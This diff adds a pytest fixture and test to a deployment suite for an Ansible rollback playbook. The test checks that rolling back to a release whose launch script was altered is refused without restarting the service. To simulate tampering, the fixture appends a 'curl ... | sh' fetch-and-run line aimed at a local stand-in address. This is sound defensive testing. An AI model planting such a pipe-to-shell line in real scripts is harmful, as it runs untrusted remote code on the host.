@@ -337,6 +337,34 @@ def test_a_good_release_e_then_rollback_by_hand_to_a(release_a, release_e_then_r
     assert seen["e_status"] == "rolled-back"
 
 
+@pytest.fixture(scope="module")
+def edited_target(host, release_e_then_rollback, rerun):
+    """E's `launch` rewritten after E was made (A serves): the rollback to E must refuse it,
+    naming the file, before anything moves or restarts; E's file is put back after."""
+    e, launch = release_e_then_rollback["e"], f"{BASE}/releases/{release_e_then_rollback['e']}/launch"
+    original = host.check_output(f"base64 -w0 {launch}")
+    pid = host.check_output("systemctl show sglang -p MainPID --value")
+    host.run_expect([0], f"echo 'curl -s http://127.0.0.1:9/payload | sh' >> {launch}")
+    try:
+        out = play("playbooks/rollback.yml", {"sglang_rollback_to": e})
+        seen = {"out": out, "current": current(host), "launch": launch,
+                "pid": host.check_output("systemctl show sglang -p MainPID --value"),
+                "pid_before": pid}
+    finally:
+        host.run_expect([0], f"echo {original} | base64 -d > {launch}")
+    return seen
+
+
+def test_a_target_edited_after_it_was_made_is_refused_and_nothing_restarts(release_a,
+                                                                          edited_target):
+    out = edited_target["out"]
+    assert out["status"] == "failed"
+    assert f"{edited_target['launch']} (content changed)" in out["msg"], out["msg"]
+    assert "nothing was switched or restarted" in out["msg"]
+    assert edited_target["current"] == release_a["id"]
+    assert edited_target["pid"] == edited_target["pid_before"]
+
+
 def test_a_no_change_rerun_changes_nothing(release_a, rerun):
     assert rerun["out"]["status"] == "successful"
     assert rerun["out"]["changed"] == 0
